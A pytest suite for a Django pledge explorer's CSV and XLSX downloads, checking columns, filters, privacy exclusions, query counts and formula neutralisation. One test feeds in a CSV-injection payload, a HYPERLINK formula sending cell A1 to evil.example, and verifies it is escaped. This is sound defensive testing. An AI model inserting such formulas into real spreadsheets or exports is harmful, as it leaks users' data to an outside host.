"""Downloads of the explorer's results: the same filters as the page, every published pledge
and nothing else, nothing personal, formulas neutralised, streamed in a fixed number of
queries whatever the number of pledges."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from indicators.models import Area, GuidingPrinciple
from pledges.downloads import HEADER, explorer_rows
from pledges.filters import public_pledges
from pledges.models import (
    JointKind,
    OrganisationKind,
    PartnerStatus,
    PledgeObjective,
    PledgePartner,
    ReviewState,
)
from tests.factories import (
    OrganisationFactory,
    PledgeFactory,
    UserFactory,
    objective,
    published_pledge,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def pledges():
    union = OrganisationFactory(name="Kenya Workers Union", kind=OrganisationKind.TRADE_UNION)
    fair = published_pledge(
        title="Fair recruitment corridors",
        lead_organisation=union,
        created_by=UserFactory(email="author.private@example.org", full_name="Ann Author"),
        joint_kind=JointKind.PARTNERSHIP,
        form_financial=True,
        is_global=False,
        start_date=dt.date(2026, 1, 1),
        deadline=dt.date(2030, 12, 31),
        amount=Decimal("1500000.50"),
        currency="USD",
        implementation_status="in_progress",
        published_at=dt.datetime(2026, 2, 3, 10, 0, tzinfo=dt.UTC),
    )
    PledgeObjective.objects.create(pledge=fair, objective=objective(20), main_rank=2)
    PledgeObjective.objects.create(pledge=fair, objective=objective(23))
    fair.principles.add(*GuidingPrinciple.objects.filter(letter__in=["c", "a"]))
    fair.areas.add(
        Area.objects.get(iso3="KEN"), Area.objects.get(iso3="UGA"), Area.objects.get(code="ECA")
    )
    PledgePartner.objects.create(
        pledge=fair,
        organisation=OrganisationFactory(name="Savings Cooperative"),
        status=PartnerStatus.ACCEPTED,
    )
    PledgePartner.objects.create(
        pledge=fair, organisation=OrganisationFactory(name="Declining Body"), status="declined"
    )
    PledgePartner.objects.create(pledge=fair, invited_email="invitee.private@example.org")
    remit = published_pledge(title="Cheaper remittances for families", is_global=True)
    fair.matches = remit
    fair.save()
    hidden = [
        PledgeFactory(title="A secret draft"),
        PledgeFactory(title="Waiting for review", review_state=ReviewState.SUBMITTED),
        PledgeFactory(title="Refused one", review_state=ReviewState.REJECTED),
        PledgeFactory(
            title="Withdrawn one",
            review_state=ReviewState.WITHDRAWN,
            published_at=timezone.now(),
        ),
        PledgeFactory(
            title="A proposed revision",
            review_state=ReviewState.SUBMITTED,
            revision_of=remit,
            sequence=remit.sequence,
            reference="GCM-2026-REV",
        ),
    ]
    return {"fair": fair, "remit": remit, "hidden": hidden}


def csv_rows(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_rows(response) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return list(workbook["pledges"].iter_rows(values_only=True))


def table(response) -> list[dict]:
    """The rows of either download, by column name."""
    if response["Content-Type"].startswith("text/csv"):
        return csv_rows(response)
    header, *rows = xlsx_rows(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_anyone_downloads_the_published_pledges_as_csv_with_stable_columns(client, pledges):
    response = client.get(reverse("explorer_csv"))
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="gcm-pledges-{today}.csv"'
    assert set(response["Cache-Control"].split(", ")) == {"public", "max-age=300"}
    rows = csv_rows(response)
    assert [row["title"] for row in rows] == [
        "Cheaper remittances for families",  # newest first, as on the explorer
        "Fair recruitment corridors",
    ]
    fair = pledges["fair"]
    assert rows[1] == {
        "reference": fair.reference,
        "url": f"http://testserver/pledges/{fair.reference}/",
        "cycle": "IMRF-2026",
        "title": "Fair recruitment corridors",
        "lead_organisation": "Kenya Workers Union",
        "lead_organisation_kind": "trade_union",
        "lead_country": "KEN",
        "partners": "Savings Cooperative",
        "main_objectives": "6; 20",
        "further_objectives": "23",
        "principles": "a; c",
        "forms": "financial; policy",
        "joint_kind": "partnership",
        "matches": pledges["remit"].reference,
        "global": "no",
        "countries": "KEN; UGA",
        "regions": "ECA",
        "start_date": "2026-01-01",
        "deadline": "2030-12-31",
        "amount": "1500000.5",
        "currency": "USD",
        "implementation_status": "in_progress",
        "published_at": "2026-02-03",
    }
    assert rows[0]["global"] == "yes"
    assert rows[0]["matches"] == rows[0]["partners"] == rows[0]["amount"] == ""


def test_the_xlsx_download_has_the_same_rows_with_numbers_and_dates(client, pledges):
    response = client.get(reverse("explorer_xlsx"))
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="gcm-pledges-{today}.xlsx"'
    assert set(response["Cache-Control"].split(", ")) == {"public", "max-age=300"}
    header, *rows = xlsx_rows(response)
    assert list(header) == HEADER
    fair = dict(zip(HEADER, rows[1], strict=True))
    assert fair["title"] == "Fair recruitment corridors"
    assert fair["partners"] == "Savings Cooperative"
    assert fair["amount"] == pytest.approx(1500000.5)
    # openpyxl reads a date cell back as a datetime at midnight.
    assert fair["deadline"].date() == dt.date(2030, 12, 31)
    assert fair["published_at"].date() == dt.date(2026, 2, 3)
    assert len(rows) == 2


@pytest.mark.parametrize("name", ["explorer_csv", "explorer_xlsx"])
def test_unpublished_pledges_and_personal_data_are_never_downloaded(client, pledges, name):
    text = "\n".join(
        str(value) for row in table(client.get(reverse(name))) for value in row.values()
    )
    assert "Fair recruitment corridors" in text
    for pledge in pledges["hidden"]:
        assert pledge.title not in text
        assert pledge.reference not in text
    for private in ("invitee.private@example.org", "author.private", "Ann Author", "@"):
        assert private not in text
    assert "Declining Body" not in text


def test_a_matched_pledge_that_is_not_published_is_not_named(client, pledges):
    fair = pledges["fair"]
    fair.matches = pledges["hidden"][0]
    fair.save()
    rows = csv_rows(client.get(reverse("explorer_csv")))
    assert rows[1]["matches"] == ""


@pytest.mark.parametrize("name", ["explorer_csv", "explorer_xlsx"])
def test_the_downloads_take_the_explorers_filters_and_sort(client, pledges, name):
    # The page's cursor is no filter: a download has every result, from the first.
    response = client.get(reverse(name), {"kind": "trade_union", "after": "forged:cursor"})
    assert [row["title"] for row in table(response)] == ["Fair recruitment corridors"]
    by_title = table(client.get(reverse(name), {"sort": "title"}))
    assert [row["title"] for row in by_title] == [
        "Cheaper remittances for families",
        "Fair recruitment corridors",
    ]


@pytest.mark.parametrize("name", ["explorer_csv", "explorer_xlsx"])
def test_a_filter_value_that_names_nothing_is_a_plain_400(client, pledges, name):
    response = client.get(reverse(name), {"objective": "99", "status": "perfect"})
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response.text.startswith("Some filters could not be read.")
    assert "objective: Select a valid choice." in response.text
    assert "status: Select a valid choice." in response.text


@pytest.mark.parametrize("name", ["explorer_csv", "explorer_xlsx"])
def test_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised(client, name):
    published_pledge(
        title='=HYPERLINK("http://evil.example/?"&A1,"click")',
        lead_organisation=OrganisationFactory(name="@SUM(1+1)"),
        amount=Decimal(12),
        currency="USD",
    )
    [row] = table(client.get(reverse(name)))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["lead_organisation"] == "'@SUM(1+1)"
    assert row["amount"] in ("12", 12)


# Each download reads: the pledges with their cycle, organisation and its country (one query,
# read in chunks), then per chunk of 2000 the accepted partners, the objectives, the
# principles and the areas (four queries). No filter here, so no look-up of a filter's value.
DOWNLOAD_QUERIES = 5


@pytest.mark.parametrize("name", ["explorer_csv", "explorer_xlsx"])
@pytest.mark.parametrize("count", [5, 50])
def test_a_download_costs_the_same_whatever_the_number_of_pledges(
    client, django_assert_max_num_queries, name, count
):
    kenya, uganda = Area.objects.get(iso3="KEN"), Area.objects.get(iso3="UGA")
    principle = GuidingPrinciple.objects.get(letter="a")
    for n in range(count):
        pledge = published_pledge(title=f"Pledge {n}")
        pledge.areas.add(kenya, uganda)
        pledge.principles.add(principle)
        PledgePartner.objects.create(
            pledge=pledge, organisation=OrganisationFactory(), status=PartnerStatus.ACCEPTED
        )
    with django_assert_max_num_queries(DOWNLOAD_QUERIES):
        response = client.get(reverse(name))
        # The CSV's queries run as its rows stream: read them all in here.
        content = b"".join(response.streaming_content)
    response.streaming_content = iter([content])
    assert len(table(response)) == count


def test_related_rows_are_read_once_per_chunk_not_once_per_pledge(django_assert_num_queries):
    for n in range(25):
        published_pledge(title=f"Pledge {n}").areas.add(Area.objects.get(iso3="KEN"))
    # The pledges (one query), then for each of the three chunks of 10 the partners,
    # objectives, principles and areas.
    with django_assert_num_queries(1 + 3 * 4):
        rows = list(explorer_rows(public_pledges(), lambda path: path, chunk_size=10))
    assert len(rows) == 25
    assert {row[HEADER.index("countries")] for row in rows} == {"KEN"}
